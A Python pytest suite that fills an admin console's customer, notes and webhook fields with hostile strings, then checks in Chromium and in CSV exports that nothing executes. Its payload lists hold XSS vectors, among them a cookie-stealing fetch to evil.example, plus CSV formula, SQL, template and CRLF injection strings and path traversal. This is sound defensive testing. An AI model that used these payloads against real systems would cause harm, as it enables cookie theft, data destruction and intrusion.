"""Hostile texts as names, Notes and webhook fields, looked at in a real Chromium."""

import csv
import io
import itertools
from collections.abc import Iterator

import pytest
import requests
from playwright.sync_api import Page
from starlette.applications import Starlette
from starlette.routing import Mount

from ml_connector.console.access import PREFIX, Caller
from ml_connector.console.app import build_console
from ml_connector.console.visit import Services
from sandbox.running import serving_in_thread
from tests.chromium import chromium
from tests.integration.test_console import OURS, FakeOutside

MANY = 500
FIELDS = ("GivenName", "FamilyName", "CompanyName", "Notes")
SCRIPTS = ("alert(1)", "confirm`1`", "fetch('//evil.example/'+document.cookie)", "print()")
MARKUP = (
    "<script>{}</script>",
    "<img src=x onerror={}>",
    '"><svg onload={}>',
    "'><body onpageshow={}>",
    "</title><script>{}</script>",
    "</textarea><iframe srcdoc='<script>parent.{}</script>'>",
    "<a href=javascript:{}>x</a>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={}>",
    "<input autofocus onfocus={}>",
    "<form action=javascript:{}><button>x",
    "<link rel=stylesheet href=//evil.example/x.css onload={}>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href=//evil.example/><script src=x></script>{}",
    "<div hx-get=//evil.example hx-trigger=load>{}",
    "<div hx-on::load={}>",
    "javascript:{}",
    "&lt;script&gt;{}&lt;/script&gt;",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "<!--><img src=x onerror={}>-->",
    "<![CDATA[<img src=x onerror={}>]]>",
)
TEMPLATES = ("{{{{ {} }}}}", "{{% if 1 %}}{}{{% endif %}}", "${{{}}}", "#{{{}}}", "<%= {} %>")
INSIDE = ("7*7", "config", "self.__class__", "''.__class__.__mro__", "request.application")
FORMULAS = ("=", "+", "-", "@", "\t=", "\r=", " =", '"=', "=cmd|' /C calc'!A0;")
CALLS = ('HYPERLINK("http://evil.example","x")', "1+1", "SUM(A1:A9)", "IMPORTXML(A1)")
SQL = (
    "'; DROP TABLE ml_connector.audit; --",
    "' OR '1'='1",
    "\\'; SELECT pg_sleep(9); --",
    "%' AND 1=0 UNION SELECT 1 --",
    "$$; SELECT 1; $$",
    "%%%___",
    "\x01\x02\x7f",
)
ODD = (
    "\u202egnp.exe",
    "\u2066\u2069\u200b\u200d\ufeff",
    "a\u0300" * 40,
    "\U0001f4a9" * 20,
    "\ufdfd" * 10,
    "x" * 99,
    "null",
    "undefined",
    "None",
    "NaN",
    "../../../etc/passwd",
    "C:\\con",
    "2026-11-24 00:00:00 [error] forged line",
    "\n2026-11-24 00:00:00 [error    ] forged line",
    "\r\nSet-Cookie: forged=1",
    "%0d%0aforged: 1",
    "http://evil.example/?a=<b>&c='d'",
)
_COUNTS_AS_FORMULA = ("=", "+", "-", "@", "\t", "\r")


def payloads() -> list[str]:
    made = [
        *(text.format(script) for text in MARKUP for script in SCRIPTS),
        *(text.format(inner) for text in TEMPLATES for inner in INSIDE),
        *(sign + call for sign in FORMULAS for call in CALLS),
        *SQL,
        *ODD,
    ]
    # Varied until there are enough: in capitals, twice, behind words, before them.
    ways = (str, str.upper, lambda text: text * 2, lambda text: f"Ann {text}", lambda t: f"{t} Ann")
    varied = dict.fromkeys(way(text) for way in ways for text in made)
    return list(itertools.islice(varied, MANY))


def one_of_each_kind() -> list[str]:
    """Each way to write markup, a template or a formula once; every other text."""
    return [
        *(text.format(SCRIPTS[0]) for text in MARKUP),
        *(text.format(INSIDE[0]) for text in TEMPLATES),
        *(sign + CALLS[0] for sign in FORMULAS),
        *SQL,
        *ODD,
    ]


@pytest.fixture
def page() -> Iterator[Page]:
    with chromium() as browser:
        yield browser.new_page()


@pytest.mark.parametrize(
    "texts",
    [one_of_each_kind(), pytest.param(payloads(), marks=pytest.mark.endurance)],
    ids=["one of each kind", "500"],
)
def test_hostile_texts_open_nothing_load_nothing_and_forge_nothing(company, page, capsys, texts):
    ids = fill(company, texts)
    trouble = watched(page)
    with serving_in_thread({"console": console(company)}) as urls:
        base = f"{urls['console']}{PREFIX}/main"
        for path in ["", "/customers", "/audit", "/webhooks", "/plans", "/plans/1", "/setup"]:
            page.goto(base + path)
        for id_ in ids:
            page.goto(f"{base}/customers/{id_}")
        for number in range(1, 6):
            page.goto(f"{base}/webhooks/{number}")
            page.goto(f"{base}/audit/{number}")
        assert page.evaluate("typeof window.forged") == "undefined"
        for text in texts[:: max(1, len(texts) // 60)]:
            found = requests.post(f"{base}/customers", {"wanted": text}, headers=OURS, timeout=60)
            assert found.status_code == 200, text
        assert trouble == []
        for sheet in ("/audit.csv", "/plans/1.csv"):
            answer = requests.get(base + sheet, timeout=60)
            assert answer.status_code == 200
            rows = csv.reader(io.StringIO(answer.text.removeprefix("\ufeff")))
            live = [cell for row in rows for cell in row if cell.startswith(_COUNTS_AS_FORMULA)]
            assert live == []
    assert len(company.statuses()) == len(ids)
    said = capsys.readouterr()
    assert "forged line" not in said.out + said.err


def fill(company, texts: list[str]) -> list[str]:
    """Customers that carry all texts, four each, their contacts, webhooks of them, and a row that failed."""
    ids = []
    for number, some in enumerate(_fours(texts)):
        given = {field: text[:99] for field, text in zip(FIELDS, some, strict=True)}
        ids.append(company.customer(f"Hostile {number}", f"h{number}@hostile-firm.com", **given))
    company.sync()
    for number, text in enumerate(texts[:5]):
        company.told_by_mailchimp(
            "unsubscribe", email=f"h{number}@hostile-firm.com", id=text, reason=text, action="unsub"
        )
    company.told_by_mailchimp("subscribe", email=texts[0], id="1")
    company.work_off()
    return ids


def _fours(texts: list[str]) -> Iterator[tuple[str, ...]]:
    return itertools.zip_longest(*[iter(texts)] * 4, fillvalue="")


def watched(page: Page) -> list[str]:
    """What a page must not do: open a dialog, throw, break its policy, or ask another host."""
    trouble: list[str] = []

    def asked(request) -> None:
        if not request.url.startswith(("http://127.0.0.1", "data:")):
            trouble.append(f"asked {request.url}")

    def said(message) -> None:
        if message.type == "error":
            trouble.append(message.text)

    def opened(dialog) -> None:
        trouble.append(f"dialog {dialog.message}")
        dialog.dismiss()

    page.on("dialog", opened)
    page.on("console", said)
    page.on("request", asked)
    page.on("pageerror", lambda error: trouble.append(str(error)))
    return trouble


def console(company) -> Starlette:
    async def identify(_request) -> Caller:
        return Caller(name="<b>admin</b>", may=lambda _right, _sync: True)

    services = Services(
        database=company.database,
        vault=company.vault,
        syncs=lambda: {"main": company.sync_settings()},
        identify=identify,
        outside=FakeOutside(),
        clock=company.clock,
    )
    return Starlette(routes=[Mount(PREFIX, build_console(services))])
